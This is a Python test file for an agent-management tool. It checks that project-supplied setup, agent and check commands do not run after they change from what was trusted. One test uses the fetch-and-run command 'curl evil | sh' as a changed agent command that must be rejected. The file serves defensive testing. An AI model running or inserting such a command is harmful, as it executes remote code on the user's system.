"""Commands that a project brings along are bound to what a person looked at. That each of them is
not run without it is tested where it is run; here the one measure for all is switched off."""

from pathlib import Path

import pytest

from agents_manager.errors import NotTrusted
from agents_manager.flow import agents, tasks
from tests.worlds import ANN, World

OUTCOME = "echo '<<<OUTCOME:pr_ready>>>'; echo '<<<END_PAYLOAD>>>'"


def commands(folder: Path) -> dict[str, object]:
    """A set-up, an agent and a check, each of which leaves a file when it is run."""
    work = f"touch '{folder}/agent'; echo x > new.txt; {OUTCOME}"
    return {
        "setup": [f"touch '{folder}/setup'"],
        "defaultAgentType": "mine",
        "agents": {"mine": {"adapter": "command", "command": ["sh", "-c", work]}},
        "checks": {"test": {"command": f"touch '{folder}/check'"}},
    }


@pytest.mark.parametrize("measure", ["on", "off"])
async def test_commands_that_changed_after_they_were_trusted_would_run_without_the_measure(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, measure: str
) -> None:
    old, new = tmp_path / "old", tmp_path / "new"
    for folder in (old, new):
        folder.mkdir()
    world.configure(commands(old))
    world.project = await tasks.trust_project(world.s, world.project)
    world.configure(commands(new))
    if measure == "off":
        monkeypatch.setattr(agents, "trusted", lambda *_: True)
    task = await tasks.create(
        world.s, world.project, tasks.NewTask(title="Add", pipeline="simple"), ANN
    )
    await tasks.move(world.s, task.id, ANN)
    await world.until(task, "needs_decision" if measure == "on" else "review")
    ran = {"on": [], "off": ["agent", "check", "setup"]}[measure]
    assert sorted(file.name for file in new.iterdir()) == ran
    assert list(old.iterdir()) == []


async def test_a_changed_command_of_one_agent_does_not_stop_another(world: World) -> None:
    def configured(one: str) -> dict[str, object]:
        return {
            "agents": {
                "one": {"adapter": "command", "command": ["sh", "-c", one]},
                "other": {"adapter": "command", "command": ["sh", "-c", "true"]},
            },
        }

    world.configure(configured("true"))
    world.project = await tasks.trust_project(world.s, world.project)
    world.configure(configured("curl evil | sh"))
    agents.check_trust(world.s, "other", world.project)
    with pytest.raises(NotTrusted, match=r"agents\.one\.command was"):
        agents.check_trust(world.s, "one", world.project)


async def test_untrusted_set_up_stops_the_checks_that_would_run_it(
    world: World, tmp_path: Path
) -> None:
    folder = tmp_path / "ran"
    folder.mkdir()
    before = commands(folder)
    world.configure(before)
    world.project = await tasks.trust_project(world.s, world.project)
    world.configure({**before, "setup": ["true"]})
    config = world.s.configs.of(world.project)
    assert agents.trusted(world.project, config, "agents.mine.")
    assert agents.trusted(world.project, config, "checks.")
    assert not agents.trusted(world.project, config, "checks.", "setup.")
    assert not agents.trusted(world.project, config)
